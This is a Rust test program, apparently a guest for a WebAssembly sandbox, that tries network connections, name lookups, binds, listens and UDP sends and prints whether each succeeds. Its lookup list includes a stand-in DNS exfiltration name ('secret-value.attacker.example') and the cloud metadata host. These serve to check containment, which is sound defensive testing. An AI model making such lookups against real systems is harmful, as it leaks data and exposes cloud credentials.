//! Connects to each address in its arguments, then tries to look up names, bind, listen, and send
//! datagrams. Prints each result.
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream, ToSocketAddrs as _, UdpSocket};
use strongroom_test_guests::args;
use wasip2::sockets::network::{IpAddressFamily, IpSocketAddress, Ipv4SocketAddress};
use wasip2::sockets::{instance_network, tcp_create_socket, udp_create_socket};

fn main() {
    for target in args() {
        let connected = TcpStream::connect(&target).and_then(|mut stream| {
            stream.write_all(b"ping\n")?;
            let mut answer = [0; 5];
            stream.read_exact(&mut answer)?;
            Ok(String::from_utf8_lossy(&answer).trim().to_owned())
        });
        match connected {
            Ok(answer) => println!("connect {target}: CONNECTED {answer}"),
            Err(error) => println!("connect {target}: {:?}", error.kind()),
        }
    }
    for name in ["localhost:80", "example.com:80", "secret-value.attacker.example:53", "metadata.google.internal:80"] {
        println!("look up {name}: {:?}", name.to_socket_addrs().map(|addresses| addresses.count()).map_err(|_| "no"));
    }
    for address in ["127.0.0.1:0", "0.0.0.0:0", "[::]:0", "[::1]:0"] {
        println!("listen {address}: {:?}", TcpListener::bind(address).map(|_| "LISTENING").map_err(|_| "no"));
        let sent = UdpSocket::bind(address).and_then(|socket| socket.send_to(b"x", "127.0.0.1:9"));
        println!("udp {address}: {:?}", sent.map_err(|_| "no"));
    }
    // With the individual calls, which no library makes in this order.
    let any = IpSocketAddress::Ipv4(Ipv4SocketAddress { port: 0, address: (0, 0, 0, 0) });
    match tcp_create_socket::create_tcp_socket(IpAddressFamily::Ipv4) {
        Err(code) => println!("socket: {code:?}"),
        Ok(socket) => {
            let network = instance_network::instance_network();
            println!("listen unbound: {:?}", socket.start_listen().and_then(|()| socket.finish_listen()));
            let bound = socket.start_bind(&network, any).and_then(|()| socket.finish_bind());
            println!("bound: {bound:?}");
            println!("listen bound: {:?}", socket.start_listen().and_then(|()| socket.finish_listen()));
            println!("accept: {:?}", socket.accept().is_ok());
            println!("is listening: {}", socket.is_listening());
        }
    }
    println!("datagrams: {:?}", udp_create_socket::create_udp_socket(IpAddressFamily::Ipv4).is_ok());
}
